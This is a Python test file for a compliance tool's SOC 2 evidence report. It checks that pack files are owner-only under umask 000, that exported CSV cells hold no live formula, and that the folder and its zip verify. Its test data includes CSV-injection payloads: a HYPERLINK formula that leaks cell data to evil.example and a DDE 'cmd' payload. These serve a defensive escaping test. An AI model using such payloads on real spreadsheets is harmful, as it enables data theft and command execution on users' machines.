"""A real report under umask 000 with formula-like inventory owners: the pack is owner-only, its CSVs
hold no live formula, and the folder and its zip verify (issue 11, items 8, 12 and 15)."""

import csv
import json
import os
import re
import shutil
import stat
import subprocess
import sys

import pytest
from conftest import ROOT, load_synth_month

from vaultlab import Warehouse
from vaultlab.evidence.manifest import verify_pack

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")


@pytest.fixture(scope="module")
def pack(tmp_path_factory, synth_small):
    out, _ = synth_small
    folder = tmp_path_factory.mktemp("hostile-report")
    month = folder / "month"
    shutil.copytree(out, month)
    inventory = json.loads((month / "inventory.json").read_text())
    for item, owner in zip(inventory, FORMULAS):
        item["owner"] = owner
    (month / "inventory.json").write_text(json.dumps(inventory))
    db = folder / "w.duckdb"
    with Warehouse(db) as wh:
        load_synth_month(wh, month)
    code = "import os, sys; os.umask(0); from vaultlab.cli import main; sys.exit(main(sys.argv[1:]))"
    result = subprocess.run([sys.executable, "-c", code, "--db", str(db), "report", "--framework", "soc2",
                             "--period", "2026-10", "--out", str(folder / "packs")], capture_output=True,
                            text=True, timeout=600, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr[-3000:]
    return folder / "packs" / "soc2-2026-10"


def test_every_part_of_the_pack_is_owner_only_under_umask_000(pack):
    modes = {p: stat.S_IMODE(p.stat().st_mode) for p in [pack, *pack.rglob("*")]}
    assert {p: m for p, m in modes.items() if p.is_dir() and m != 0o700} == {}
    assert {p: m for p, m in modes.items() if p.is_file() and m != 0o600} == {}
    assert stat.S_IMODE(pack.with_name(pack.name + ".zip").stat().st_mode) == 0o600


def test_no_evidence_csv_holds_a_live_formula(pack):
    seen = set()
    for path in (pack / "evidence").glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not (cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)), \
                        (path.name, cell)
                    seen.add(cell)
    assert {"'" + f for f in FORMULAS} <= seen


def test_the_folder_and_its_zip_verify(pack):
    assert verify_pack(pack).intact, verify_pack(pack).problems()
    archive = pack.with_name(pack.name + ".zip")
    assert verify_pack(archive).intact, verify_pack(archive).problems()
